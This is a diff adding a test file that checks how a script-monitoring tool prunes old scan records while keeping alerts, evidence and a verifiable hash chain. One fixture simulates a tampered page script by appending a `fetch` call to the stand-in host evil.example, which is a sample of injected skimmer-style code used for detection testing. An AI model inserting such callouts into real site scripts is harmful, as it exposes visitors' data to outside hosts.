@@ -1,0 +1,61 @@
+// Store: retention removes repeated observations of unchanged scripts, keeps first sightings, alerts and evidence,
+// and the scan chain still verifies afterwards (and still catches an edited pruned scan).
+
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { planScan } from '../../src/compare.js';
+import { openStore, type Store } from '../../src/store/open-store.js';
+import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
+import { tempProject } from '../fixtures/cli.js';
+
+function history(): { store: Store; alertScan: number } {
+  const store = openStore(join(tempProject('sw-retain-'), 'sw.db'));
+  const scan = (capture = healthyShop(), evidence?: { name: string; bytes: Buffer }[]) => {
+    const plan = planScan(capture, store.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
+    if (evidence) plan.evidence = evidence;
+    return store.applyPlan(plan);
+  };
+  scan();
+  store.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
+  for (let i = 0; i < 5; i++) scan();
+  const changed = scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]),
+    [{ name: 'screenshot.png', bytes: Buffer.from('\x89PNG fake') }]);
+  for (let i = 0; i < 3; i++) scan();
+  return { store, alertScan: changed.scanId };
+}
+
+const count = (store: Store, sql: string, ...args: unknown[]) => (store.db.prepare(sql).get(...args) as { n: number }).n;
+
+describe('retention', () => {
+  it('prunes repeated observations and keeps the chain verifiable', () => {
+    const { store, alertScan } = history();
+    const before = count(store, 'SELECT COUNT(*) AS n FROM observations');
+    const perScan = count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 1');
+    const report = store.retain('2999-01-01T00:00:00.000Z');
+    const afterCount = count(store, 'SELECT COUNT(*) AS n FROM observations');
+    assert.ok(report.observationsRemoved > 0 && afterCount === before - report.observationsRemoved);
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 1'), perScan, 'first sightings are kept');
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = ?', alertScan), perScan, 'the alerting scan keeps everything');
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 10'), perScan, 'the latest sighting of each script is kept');
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations WHERE scan_id = 3'), 0, 'repeats in between are gone');
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM evidence WHERE scan_id = ?', alertScan), 1, 'evidence is never pruned');
+    assert.equal(count(store, "SELECT COUNT(*) AS n FROM baseline WHERE state = 'approved'") > 0, true, 'baselines stay');
+    assert.equal(store.listAlerts({ status: 'all' }).length, 1);
+    const report2 = store.verify();
+    assert.equal(report2.ok, true, JSON.stringify(report2.firstBreak));
+    assert.equal(store.retain('2999-01-01T00:00:00.000Z').scans, 0, 'a pruned scan is not pruned twice');
+
+    store.db.prepare('UPDATE scans SET observations_digest = ? WHERE id = 3').run('0'.repeat(64));
+    assert.match(store.verify().firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
+    store.close();
+  });
+
+  it('keeps everything newer than the cutoff', () => {
+    const { store } = history();
+    const before = count(store, 'SELECT COUNT(*) AS n FROM observations');
+    assert.deepEqual(store.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
+    assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observations'), before);
+    store.close();
+  });
+});
